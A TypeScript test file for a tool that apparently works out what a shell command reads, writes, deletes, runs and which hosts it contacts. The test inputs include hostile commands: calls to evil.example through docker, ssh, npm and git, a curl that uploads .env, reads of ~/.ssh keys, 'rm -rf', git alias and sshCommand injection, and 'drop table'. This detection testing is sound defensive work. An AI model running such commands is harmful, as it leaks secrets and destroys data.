import { describe, expect, test } from 'vitest'
import type { StandardInput, NestedCommand } from '../../src/shell/types.ts'
import type { PathFact } from '../../src/model/types.ts'
import { effectsOf } from '../../src/shell/programs/effects.ts'
import { roleNamed } from '../../src/shell/programs/roles.ts'
import { listPrograms, listSections } from '../../src/shell/programs/table.ts'
import { command, world } from './programs-world.ts'

/** A path as text: below it `/…`, a pattern in quotes, what Git would be asked. */
const path = ({ path: name, tree, glob, skips, only, listed_by }: PathFact): string =>
  `${glob === true ? `"${name}"` : name}${tree === true ? '/…' : ''}${skips === undefined ? '' : ` but ${skips.join(' ')}`}${only === undefined ? '' : ` only ${only.join(' ')}`}${listed_by === undefined ? '' : ` by ${listed_by.asks.map(([, verb, ...words]) => [verb, ...words.filter((word) => !word.startsWith('-'))].join(' ')).join(', ')}`}`

function runText(run: NestedCommand): string {
  const text = run.kind === 'shell' ? `sh: ${run.text}` : run.argv.join(' ')
  const marks = [
    run.kind === 'argv' && run.more === true ? 'more' : '',
    run.remote === true ? 'remote' : '',
    run.cwd ?? '',
  ]
  return [text, ...marks.filter((mark) => mark !== '')].join(' @')
}

function effects(line: string, input?: StandardInput): Record<string, string[]> {
  const all = effectsOf(command(line), world, input)
  const said = {
    reads: all.reads.map(path),
    creates: all.creates.map(path),
    edits: all.edits.map(path),
    deletes: all.deletes.map(path),
    hosts: [...all.hosts],
    adds: all.adds.map(({ text }) => text),
    unresolved: all.unresolved.map(({ about }) => about.join(' ')),
    runs: all.runs.map(runText),
  }
  return Object.fromEntries(Object.entries(said).filter(([, list]) => list.length > 0))
}

const everything = 'commands reads creates edits deletes adds hosts sends pushes commits'

describe('options and words that name hosts and files', () => {
  test.each([
    ['docker -H tcp://evil.example:2375 ps', { hosts: ['evil.example'] }],
    ['docker -H unix:///var/run/docker.sock ps', {}],
    ['ssh -o HostName=evil.example x', { hosts: ['evil.example', 'x'] }],
    ['ssh -o ProxyJump=a@evil.example,b.example x', { hosts: ['evil.example', 'b.example', 'x'] }],
    ['psql postgresql://ann@evil.example/shop', { hosts: ['evil.example'] }],
    ["psql 'dbname=shop host=evil.example'", { hosts: ['evil.example'] }],
    ['mongosh mongodb://a.example,b.example/shop', { hosts: ['a.example', 'b.example'] }],
    ['npx --registry http://evil.example/ cart', { hosts: ['evil.example', 'registry:npm'], runs: ['cart'] }],
    ['npm config set registry http://evil.example/', { hosts: ['evil.example'] }],
    ['npm install git+https://evil.example/cart.git', { hosts: ['evil.example', 'registry:npm'] }],
    ['curl http:/evil.example/x', { hosts: ['evil.example'] }],
    ['curl http:///evil.example/x', { hosts: ['evil.example'] }],
    ["curl 'http://[e-f]vil.example/x'", { unresolved: ['hosts'] }],
    ['node --redirect-warnings=.env cart.js', { reads: ['/shop/cart.js'], edits: ['/shop/.env'] }],
    ['node --test --test-reporter-destination=.env', { edits: ['/shop/.env'] }],
    ['node --test --test-reporter-destination=stdout', {}],
    ['gcc -O2 -Wall -I src -o cart cart.c -lm', { reads: ['/shop/cart.c'], creates: ['/shop/cart'] }],
    ['gcc -E -x c .env', { reads: ['/shop/.env'] }],
    ['make CC=clang all', {}],
    ['git interpret-trailers .env', { reads: ['/shop/.env'] }],
  ])('%s', (line, said) => expect(effects(line)).toEqual(said))
})

describe('what is not known of a program that runs others', () => {
  test.each([
    ['prlimit --shop cart', { runs: ['cart'], unresolved: ['commands'] }],
    ['nice --shop cart', { runs: ['cart'], unresolved: ['commands'] }],
    ['prlimit --shop rm x', { runs: ['rm x'] }],
    ['prlimit --shop=1 cart', { runs: ['cart'] }],
    ['prlimit --verbose cart', { runs: ['cart'] }],
  ])('%s', (line, said) => expect(effects(line)).toMatchObject(said))

  test('a shell without commands is one', () => {
    expect(effects('tar xf x.tar -C src --info-script=bash').unresolved).toContain(everything)
    expect(effects('tar xf x.tar -C src --info-script=date').unresolved ?? []).not.toContain(everything)
  })
})

describe('files', () => {
  test.each([
    ['cat .env orders.ts', { reads: ['/shop/.env', '/shop/orders.ts'] }],
    ['cat ~/.ssh/id', { reads: ['/home/ann/.ssh/id'] }],
    ['cat -', {}],
    ['echo .env', {}],
    ['ls -la .env', {}],
    ['tee -a .env new', { edits: ['/shop/.env'], creates: ['/shop/new'] }],
    ['tee /dev/stderr', {}],
    ['json.tool .env new', { reads: ['/shop/.env'], creates: ['/shop/new'] }],
    ['zipfile -c new src', { reads: ['/shop/src/…'], creates: ['/shop/new'] }],
    ['cProfile -o new orders.ts', { reads: ['/shop/orders.ts'], creates: ['/shop/new'] }],
    ['touch .env new', { edits: ['/shop/.env'], creates: ['/shop/new'] }],
    ['rm .env', { deletes: ['/shop/.env'] }],
    ['rm -r --help src', {}],
    ['rm -r src --help', { deletes: ['/shop/src/…'] }],
    ['rm -r src', { deletes: ['/shop/src/…'] }],
    ['cp .env copy', { reads: ['/shop/.env'], creates: ['/shop/copy'] }],
    ['cp .env src', { reads: ['/shop/.env'], creates: ['/shop/src/.env'] }],
    ['cp -t src .env', { reads: ['/shop/.env'], creates: ['/shop/src/.env'] }],
    ['cp -a src lib', { reads: ['/shop/src/…'], creates: ['/shop/lib/…'] }],
    ['mv .env x', { reads: ['/shop/.env/…'], deletes: ['/shop/.env/…'], creates: ['/shop/x/…'] }],
    ['ln -s .env link', { reads: ['/shop/.env/…'], edits: ['/shop/.env/…'], creates: ['/shop/link/…'] }],
    [
      'ln -s ../.env src/link',
      { reads: ['/shop/.env/…'], edits: ['/shop/.env/…'], creates: ['/shop/src/link/…'] },
    ],
    ['install -m 600 orders.ts .env', { reads: ['/shop/orders.ts'], edits: ['/shop/.env'] }],
    ['dd if=.env of=x', { reads: ['/shop/.env'], creates: ['/shop/x'] }],
    ['dd if=/dev/zero of=.env', { edits: ['/shop/.env'] }],
    ['chmod 600 .env', { edits: ['/shop/.env'] }],
    ['chmod -R u+x src', { edits: ['/shop/src/…'] }],
    ['truncate -s 0 .env', { edits: ['/shop/.env'] }],
    ['sort -o .env orders.ts', { reads: ['/shop/orders.ts'], edits: ['/shop/.env'] }],
    ['shred -u .env', { deletes: ['/shop/.env'] }],
    ['mkdir -p a/b', { creates: ['/shop/a/b'] }],
    ['patch -p1 -i fix.patch', { reads: ['/shop/fix.patch'], edits: ['/shop/orders.ts'], adds: ['b'] }],
    [
      'rsync -a --delete src/ dist/',
      { reads: ['/shop/src/…'], creates: ['/shop/dist/…'], deletes: ['/shop/dist/…'] },
    ],
    ['tar xzf a.tgz', { reads: ['/shop/a.tgz'], unresolved: ['creates edits'] }],
    [
      'tar xzf a.tgz -C vendor',
      { reads: ['/shop/a.tgz'], creates: ['/shop/vendor/…'], edits: ['/shop/vendor/…'] },
    ],
    ['tar czf a.tgz src', { creates: ['/shop/a.tgz'], reads: ['/shop/src/…'] }],
    ['zip -r a.zip src', { creates: ['/shop/a.zip'], reads: ['/shop/src/…'] }],
  ])('%s', (line, expected) => {
    expect(effects(line)).toEqual(expected)
  })
})

describe('searches and scripts of text', () => {
  test.each([
    ['grep KEY .env', { reads: ['/shop/.env'] }],
    ['grep -e KEY .env', { reads: ['/shop/.env'] }],
    ['grep -rn KEY', { reads: ['/shop/…'] }],
    ['rg KEY', { reads: ['/shop/… but hidden .git ignored'] }],
    ['rg -uu KEY src', { reads: ['/shop/src/…'] }],
    ['grep -rn KEY . --include=*.py', { reads: ['/shop/… only *.py'] }],
    ['grep -r --exclude=.env KEY', { reads: ['/shop/… only * !.env .env/'] }],
    ['rg -g .env KEY', { reads: ['/shop/… but hidden .git ignored only .env'] }],
    ['rg -t py -uu -g !src/*.py KEY', { reads: ['/shop/… only *.py *.pyi !/shop/src/*.py'] }],
    ['find . -name *.log -delete', { deletes: ['"/shop/**/*.log"'] }],
    ['find src -delete', { deletes: ['/shop/src/…'] }],
    ['find src -type f -exec cat {} ;', { runs: ['cat /shop/src/**'] }],
    ['find . ( -name a -o -name b ) -exec rm -f {} +', { runs: ['rm -f /shop/**/a', 'rm -f /shop/**/b'] }],
    ['find . -exec echo hi ; -print', { runs: ['echo hi'] }],
    ['sed -n 1p .env', { reads: ['/shop/.env'] }],
    ['sed -i.bak s/a/b/ .env', { adds: ['b'], edits: ['/shop/.env'] }],
    ["sed 's/a/b/w out' .env", { reads: ['/shop/.env'], creates: ['/shop/out'] }],
    ["sed '1e rm x' .env", { reads: ['/shop/.env'], runs: ['sh: rm x'] }],
    ["sed -n '/[wer] x/p; s,w,e,g' .env", { reads: ['/shop/.env'] }],
    ["awk '{ print $1 }' .env", { reads: ['/shop/.env'] }],
    [`awk '{ print $1 > "out" }' .env`, { reads: ['/shop/.env'], creates: ['/shop/out'] }],
    [`awk 'BEGIN { system("rm x") }'`, { runs: ['sh: rm x'] }],
    [`awk '$1 > 3 { n++ } END { print n }' .env`, { reads: ['/shop/.env'] }],
    ["awk '{ print > $1 }' .env", { reads: ['/shop/.env'], unresolved: ['creates edits'] }],
    ['perl -pi -e s/a/b/ .env', { adds: ['b'], edits: ['/shop/.env'] }],
    ['perl -ne print .env', { reads: ['/shop/.env'] }],
    ['jq -r .key .env', { reads: ['/shop/.env'] }],
    ['yq -i .a=1 .env', { edits: ['/shop/.env'] }],
  ])('%s', (line, expected) => {
    expect(effects(line)).toEqual(expected)
  })
})

describe('git', () => {
  test.each([
    ['git status', {}],
    ['git add .env', {}],
    ['git commit -m x', {}],
    ['git push', { hosts: ['github.com'] }],
    ['git push backup main', { hosts: ['git.example.org'] }],
    ['git -C src fetch', { hosts: ['github.com'] }],
    ['git push ssh://git@Evil.example:22/x', { hosts: ['evil.example'] }],
    ['git clone git@gitlab.com:a/b.git', { hosts: ['gitlab.com'], creates: ['/shop/b/…'] }],
    ['git show HEAD:.env', { reads: ['/shop/.env'] }],
    ['git diff -- .env', { reads: ['/shop/.env'] }],
    ['git checkout main', { edits: ['/shop/… by diff-tree HEAD main, diff-tree HEAD origin/main'] }],
    ['git checkout -- .env', { edits: ['/shop/.env'] }],
    ['git checkout .', { edits: ['/shop/… but ignored .git'] }],
    ['git restore src', { edits: ['/shop/src/… but ignored .git'] }],
    ['git restore --staged src', {}],
    [
      'git reset --hard HEAD~1',
      {
        edits: ['/shop/… but ignored .git', '/shop/… by diff-index HEAD', '/shop/… by diff-tree HEAD HEAD~1'],
      },
    ],
    ['git clean -fdx', { deletes: ['/shop/… but .git'] }],
    ['git clean -nd', {}],
    ['git rm -r src', { deletes: ['/shop/src/…'] }],
    ['git apply fix.patch', { reads: ['/shop/fix.patch'], edits: ['/shop/orders.ts'], adds: ['b'] }],
    ['git co -- .env', { runs: ["sh: git checkout '--' '.env'"] }],
    ['git nuke', { runs: ['sh: rm -rf .'] }],
    ["git -c 'alias.x=!rm -rf .' x", { runs: ['sh: rm -rf .'] }],
    ['git -c user.name=$X fetch', { hosts: ['github.com'] }],
    ['git -c $X fetch', { unresolved: ['commands'], hosts: ['github.com'] }],
    ['git -c core.sshCommand=evil fetch', { runs: ['sh: evil'], hosts: ['github.com'] }],
    ["git rebase -x 'npm test' main", { edits: ['/shop/… by diff-tree HEAD main'], runs: ['sh: npm test'] }],
    ['git $SUB', { unresolved: ['commands reads creates edits deletes hosts'] }],
  ])('%s', (line, expected) => {
    expect(effects(line)).toEqual(expected)
  })
})

describe('hosts', () => {
  test.each([
    ['curl https://user@API.Example.com:8443/x', ['api.example.com']],
    ['curl example.com/x', ['example.com']],
    ['curl http://0x7f.1/', ['127.0.0.1']],
    ['curl http://2130706433/', ['127.0.0.1']],
    ['curl http://[::1]:80/', ['::1']],
    ['curl -x proxy.example:3128 https://a.example', ['proxy.example', 'a.example']],
    ['curl --resolve a.example:443:10.0.0.1 https://a.example', ['10.0.0.1', 'a.example']],
    ['wget -q https://a.example/x -O out', ['a.example']],
    ['ssh -p 22 ann@Host.example', ['host.example']],
    ['scp orders.ts ann@host.example:', ['host.example']],
    ['npm ci', ['registry:npm']],
    ['uvx ruff', ['registry:pypi']],
    ['cargo add serde', ['registry:crates']],
    ['docker pull ghcr.io/a/b', ['ghcr.io']],
    ['docker pull alpine', ['registry:docker']],
    ['gh pr list', ['github.com']],
  ])('%s', (line, expected) => {
    expect(effects(line)['hosts']).toEqual(expected)
  })

  test('a host that cannot be told is a doubt', () => {
    expect(effects('curl https://{a,b}.example/')['unresolved']).toEqual(['hosts'])
    expect(effects('curl $URL')['unresolved']).toEqual(['hosts'])
  })

  test('curl reads what it sends and creates what it saves', () => {
    expect(effects('curl -d @.env -F f=@orders.ts -T src/cart.ts -O https://a.example/b.txt')).toMatchObject({
      reads: ['/shop/.env', '/shop/orders.ts', '/shop/src/cart.ts'],
      creates: ['/shop/b.txt'],
    })
  })
})

describe('commands that run others', () => {
  test.each([
    ['sudo -u root rm -rf x', ['rm -rf x']],
    ['env -i A=1 rm x', ['rm x']],
    ["env -S 'rm -rf' x", ['sh: rm -rf x']],
    ['timeout -k 5 10s rm x', ['rm x']],
    ['nice -n 5 nohup rm x', ['nohup rm x']],
    ['xargs -n1 rm -rf', ['rm -rf … @more']],
    ["bash -lc 'rm x'", ['sh: rm x']],
    ['bash deploy.sh', ['sh: #!/bin/sh\nrm -rf build\n']],
    ['./deploy.sh', ['sh: #!/bin/sh\nrm -rf build\n']],
    ['npm run clean', ['sh: rm -rf dist']],
    ['npm t', ['sh: tsc', 'sh: vitest run']],
    ['npx prettier .', ['prettier .']],
    ["npm exec -c 'rm x'", ['sh: rm x']],
    ['busybox rm x', ['rm x']],
    ["ssh host.example 'rm -rf x'", ['sh: rm -rf x @remote']],
    ['docker exec -it web rm -rf x', ['rm -rf x @remote']],
    ['kubectl exec pod -- rm x', ['rm x @remote']],
    ['parallel rm ::: a b', ['rm a', 'rm b']],
    ["watch -n 1 'rm x'", ['sh: rm x']],
    ["flock lock -c 'rm x'", ['sh: rm x']],
    ['uv run pytest -x', ['pytest -x']],
    ['python -m pip install x', ['pip install x']],
    ["su - ann -c 'rm x'", ['sh: rm x']],
    ["script -qc 'rm x' log", ['sh: rm x']],
    ["vim -c ':!rm x' orders.ts", ['sh: rm x']],
    ["find . -execdir sh -c 'rm x' ;", ['sh -c rm x']],
  ])('%s', (line, expected) => {
    expect(effects(line)['runs']).toEqual(expected)
  })

  test('a script of package.json gets the words behind it', () => {
    expect(effects('npm run clean -- --deep x')['runs']).toEqual(['sh: rm -rf dist --deep x'])
  })

  test('a client of a database takes statements on its input as it does by option', () => {
    const given = { text: 'drop table orders;\n' }
    expect(effects('psql shop', given)['runs']).toEqual(['psql shop -c drop table orders;'])
    expect(effects('sqlite3 shop.db', given)['runs']).toEqual(['sqlite3 shop.db drop table orders;'])
    expect(effects('redis-cli', { text: 'flushall\n' })['runs']).toEqual(['redis-cli flushall'])
    expect(effects('psql shop -f orders.sql', given)['runs']).toBeUndefined()
    expect(effects('redis-cli get cart', given)['runs']).toBeUndefined()
  })

  test('xargs puts in what it is known to read', () => {
    expect(effects('xargs rm -rf', { text: 'a b\n' })['runs']).toEqual(['rm -rf a b'])
    expect(effects('xargs -I{} mv {} {}.bak', { text: 'a\nb\n' })['runs']).toEqual([
      'mv a a.bak',
      'mv b b.bak',
    ])
  })

  test('a shell runs its input, known or not', () => {
    expect(effects('bash', { text: 'rm x' })['runs']).toEqual(['sh: rm x'])
    expect(effects('bash -s', {})['unresolved']).toEqual([everything])
    expect(effects('bash')).toEqual({})
  })
})

describe('words that cannot be known', () => {
  test.each([
    ['cat $F', ['reads']],
    ['rm $F', ['deletes']],
    ['tee $F', ['creates edits']],
    ['echo $F', undefined],
    ['ls $F', undefined],
    ['python -c $CODE', [everything]],
    ['sed $SCRIPT orders.ts', ['creates edits commands']],
  ])('%s', (line, expected) => {
    expect(effects(line)['unresolved']).toEqual(expected)
  })

  test('says what a relative path could be where the directory is not known', () => {
    const { reads, unresolved } = effectsOf(command('cat .env', { cwd: '' }), world)
    expect(reads).toEqual([])
    expect(unresolved.map(({ about }) => about)).toEqual([['reads']])
  })

  test('keeps a pattern that was not expanded', () => {
    expect(effectsOf(command('cat .env*', { globs: [1] }), world).reads).toEqual([
      { path: '/shop/.env*', glob: true },
    ])
  })

  test('the paths of a remote command are not ours', () => {
    expect(effectsOf(command('rm -rf x', { remote: true }), world).deletes).toEqual([])
  })
})

test('no word of any program makes it throw', () => {
  const words = [
    '-x',
    '--output',
    '--output=a',
    'a',
    '-c',
    'run',
    'exec',
    '{}',
    ';',
    '@a',
    '+x',
    ':a',
    '-',
    '--',
    'a:b',
    'http://[',
    "'",
    '"$(',
  ]
  for (const program of listPrograms())
    for (let at = 0; at < words.length; at++) {
      const argv = [program, ...words.slice(at), ...words.slice(0, at)]
      expect(() => effectsOf({ ...command('x'), argv }, world, { text: 'a b' })).not.toThrow()
    }
})

test('every role of the table has a meaning', () => {
  const text = Object.values(listSections()).flat().join('\n')
  const used = [...text.matchAll(/[<[{]([a-z][\w+-]*)[^>\]}\n]*[>\]}]/g)].map(([, role = '']) => role)
  expect([...new Set(used)].filter((role) => roleNamed(role) === undefined)).toEqual([])
})
